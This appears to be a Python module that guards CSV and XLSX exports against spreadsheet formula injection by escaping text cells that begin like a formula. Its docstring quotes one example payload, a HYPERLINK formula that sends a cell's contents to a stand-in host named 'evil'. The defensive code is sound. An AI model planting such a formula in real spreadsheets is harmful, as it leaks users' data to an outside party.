"""Spreadsheet exports (CSV, and the cells of an XLSX): one place that neutralises formulas.

A spreadsheet program runs a text cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://evil/?"&A1, "…")`` in an agent's name, a queue, a reviewer's comment or a quoted
transcript line), and a leading tab or carriage return can hide such a start from a quick look. Every
text cell of an export goes through :func:`escape_cell`, which prefixes such a cell with ``'`` (shown
as text by Excel, LibreOffice and WPS). Numbers, dates and None are written as they are, so a negative
number stays a number; a *text* ``"-5"`` is escaped like any other text.

Use :func:`csv_bytes` for a whole CSV download, or :func:`escape_row` with your own writer (an
openpyxl row, a streamed ``csv.writer``).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(value: Any) -> Any:
    """``value`` made safe for a spreadsheet cell: text that starts like a formula gets a leading ``'``;
    anything that is not text is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def escape_row(row: Iterable[Any]) -> list[Any]:
    """:func:`escape_cell` applied to every cell of ``row``."""
    return [escape_cell(v) for v in row]


def _csv_text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "1" if value else "0"
    if isinstance(value, datetime):
        return value.isoformat(sep=" ", timespec="seconds")
    if isinstance(value, date):
        return value.isoformat()
    return str(escape_cell(value))


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]], *, bom: bool = True) -> bytes:
    """A CSV file: UTF-8 (with a byte-order mark by default, so Excel in China reads it as UTF-8 rather
    than GBK), CRLF line ends, every cell — header included — escaped."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([_csv_text(h) for h in header])
    for row in rows:
        writer.writerow([_csv_text(v) for v in row])
    return (("\ufeff" if bom else "") + out.getvalue()).encode("utf-8")
